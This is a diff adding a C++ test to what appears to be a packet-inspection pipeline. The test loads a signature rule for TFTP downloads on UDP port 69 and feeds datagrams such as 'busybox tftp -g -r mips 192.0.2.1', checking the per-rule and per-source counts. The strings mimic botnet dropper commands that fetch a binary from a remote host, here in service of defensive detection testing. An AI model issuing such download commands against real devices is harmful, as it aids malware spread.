@@ -1,4 +1,7 @@
 #include <catch2/catch.hpp>
+#include <cstdio>
+#include <fstream>
+#include <string>
 
 #include "frame_builder.hpp"
 #include "pipeline/lcore_fold.hpp"
@@ -285,4 +288,38 @@ TEST_CASE("a source forgotten and back leaves a provisional cluster once", "[wor
     INFO(clusters.name(k));
     CHECK(s.clusters[port][k].sources == (clusters.name(k) == "fixed-port-w1024" ? 1 : 0));
   }
+}
+
+TEST_CASE("a worker scans UDP datagrams: each one on its own, counted per rule and source",
+          "[worker]") {
+  // Two sources send TFTP's busybox download line to 69/udp, the first twice; a datagram with
+  // half of it and one to another port match nothing.
+  const std::string path = "test-worker-udp-" + std::to_string(std::rand()) + ".rules";
+  std::ofstream(path) << "rule 1 tftp-get download udp/69 /tftp -g -r/\n";
+  std::string error;
+  auto rules = signature_db::load(path, "", error);
+  std::remove(path.c_str());
+  INFO(error);
+  REQUIRE(rules);
+  const watched_ports ports = *watched_ports::build(
+      {{69, transport::udp, "tftp"}, {53, transport::udp, "dns"}}, error);
+  const cluster_rules clusters = default_clusters();
+  auto w = make_worker(ports, clusters, "udp_signatures", 1024, rules.get());
+  const auto send = [&](uint32_t source, uint16_t dst_port, const std::string& text) {
+    ipv4_fields ip;
+    ip.src = source;
+    ip.proto = 17;
+    feed(*w, ethernet(0x0800) + ipv4(ip, udp(40000, dst_port, bytes(text.begin(), text.end()))),
+         1000);
+  };
+  send(0xC6336401, 69, "busybox tftp -g -r mips 192.0.2.1");
+  send(0xC6336401, 69, "busybox tftp -g -r arm7 192.0.2.1");
+  send(0xC6336402, 69, "tftp -g -r x 192.0.2.1");
+  send(0xC6336403, 69, "tftp -g");
+  send(0xC6336404, 53, "tftp -g -r x 192.0.2.1");
+  const source_counter& on_69 =
+      w->stats().signature_counts[ports.index(transport::udp, 69) * signature_db::max_rules];
+  CHECK(on_69.packets.read() == 3);
+  CHECK(on_69.sources.read() == 2);
+  CHECK(w->stats().signature_totals[0].packets.read() == 3);
 }
